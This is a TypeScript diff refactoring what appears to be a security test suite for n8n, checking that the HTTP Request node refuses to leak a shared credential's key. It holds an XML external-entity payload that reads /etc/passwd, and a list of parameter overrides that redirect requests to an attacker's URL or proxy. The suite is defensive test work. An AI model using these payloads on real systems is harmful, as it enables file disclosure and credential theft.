@@ -48,23 +48,18 @@ const typed = (type: string, encode: (event: object) => string) =>
 		body: encode(event),
 	}));
 
-const form = (event: object) =>
-	new URLSearchParams(
-		Object.entries(event).map(([name, value]): [string, string] => [name, String(value)]),
-	).toString();
-const xml = (event: object) =>
-	`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>${Object.entries(
-		event,
-	)
-		.map(([name, value]) => `<${name}>${String(value)}&e;</${name}>`)
-		.join('')}</x>`;
-const multipart = (event: object) =>
-	`${Object.entries(event)
-		.map(
-			([name, value]) =>
-				`--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${String(value)}\r\n`,
-		)
-		.join('')}--b--\r\n`;
+const fieldsOf = (event: object) =>
+	Object.entries(event).map(([name, value]): [string, string] => [name, String(value)]);
+const form = (event: object) => new URLSearchParams(fieldsOf(event)).toString();
+const xml = (event: object) => {
+	const fields = fieldsOf(event).map(([name, value]) => `<${name}>${value}&e;</${name}>`);
+	return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>${fields.join('')}</x>`;
+};
+const multipart = (event: object) => {
+	const head = '--b\r\nContent-Disposition: form-data; name=';
+	const parts = fieldsOf(event).map(([name, value]) => `${head}"${name}"\r\n\r\n${value}\r\n`);
+	return `${parts.join('')}--b--\r\n`;
+};
 
 const contentTypes: Attack[] = [
 	typed('text/plain', JSON.stringify),
@@ -257,18 +252,14 @@ const PROXY_REFUSED = 'not sent through a proxy set in the node';
 const UNCHECKED_REFUSED = 'not sent without n8n’s own certificate checks';
 const ADDRESS_REFUSED = 'only sent to the address in the credential';
 
-/**
- * Settings of n8n's HTTP Request node, chosen by a colleague who may use the credential but not see its key. They override
- * the parameters of an honest request; `elsewhere` is the attacker's server.
- */
-export const KEY_ATTACKS: ReadonlyArray<
-	[
-		what: string,
-		refusal: string,
-		parameters: (elsewhere: string) => INodeParameters,
-		typeVersion?: number,
-	]
-> = [
+type KeyAttack = [
+	what: string,
+	refusal: string,
+	parameters: (elsewhere: string) => INodeParameters,
+	typeVersion?: number,
+];
+
+const keyAttacks: readonly KeyAttack[] = [
 	['with their own URL', ADDRESS_REFUSED, (elsewhere) => ({ url: `${elsewhere}/v1.0/getBalance` })],
 	['with their own proxy', PROXY_REFUSED, (proxy) => ({ options: { proxy } })],
 	[
@@ -321,3 +312,14 @@ export const KEY_ATTACKS: ReadonlyArray<
 		},
 	],
 ];
+
+/**
+ * Settings of n8n's HTTP Request node, chosen by a colleague who may use the credential but not see its key. They override
+ * the parameters of an honest request; `elsewhere` is the attacker's server.
+ */
+export const KEY_ATTACKS = keyAttacks.map(([what, refusal, parameters, typeVersion]) => ({
+	what,
+	refusal,
+	parameters,
+	typeVersion,
+}));
